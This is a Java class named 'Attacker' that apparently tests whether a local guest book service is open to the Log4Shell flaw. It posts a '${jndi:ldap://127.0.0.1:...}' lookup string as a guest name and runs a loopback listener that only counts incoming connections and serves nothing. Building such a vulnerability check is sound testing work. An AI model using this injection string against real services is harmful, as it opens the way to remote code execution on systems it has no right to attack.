package com.acme.guestbook;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.concurrent.atomic.AtomicInteger;

/// Signs the guest book with a text that makes Log4j ask a directory server. This class is also that server.
///
/// The server listens on loopback. It only records connections. It sends nothing, so Log4j loads nothing from it.
public final class Attacker implements AutoCloseable {

    private static final Duration PATIENCE = Duration.ofSeconds(30);

    private final ServerSocket directory = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    private final AtomicInteger reached = new AtomicInteger();
    private final HttpClient client = HttpClient.newHttpClient();
    private final URI guestbook;

    /// An attacker of the guest book at a port of loopback.
    public Attacker(int port) throws IOException {
        guestbook = URI.create("http://127.0.0.1:" + port + "/");
        Thread.ofPlatform().daemon().name("directory").start(this::listen);
    }

    /// Attacks once, and prints whether the service asked the directory server.
    ///
    /// Its argument is the file with the port of the service.
    public static void main(String[] args) throws IOException, InterruptedException {
        try (Attacker attacker = new Attacker(Integer.parseInt(Files.readString(Path.of(args[0]))))) {
            System.out.println(attacker.attack() ? "REACHED: the service asked the attacker's server" : "not reached");
        }
    }

    /// Signs once, and returns whether the directory server was asked before the service answered.
    public boolean attack() throws IOException, InterruptedException {
        int before = reached.get();
        String name = "${jndi:ldap://127.0.0.1:" + directory.getLocalPort() + "/guest}";
        HttpRequest request = HttpRequest.newBuilder(guestbook)
                .timeout(PATIENCE)
                .POST(BodyPublishers.ofString(name))
                .build();
        int status = client.send(request, BodyHandlers.discarding()).statusCode();
        if (status != 204) {
            throw new IOException("the guest book at " + guestbook + " answered " + status);
        }
        return reached.get() > before;
    }

    @Override
    public void close() throws IOException {
        directory.close();
        client.close();
    }

    /// Log4j waits until this closes the connection, so it is counted before the guest book answers.
    private void listen() {
        while (!directory.isClosed()) {
            try (Socket service = directory.accept()) {
                if (service.getInputStream().read() >= 0) {
                    reached.incrementAndGet();
                }
            } catch (IOException closed) {
                // In the next round the server is closed, or accepts the next connection.
            }
        }
    }
}
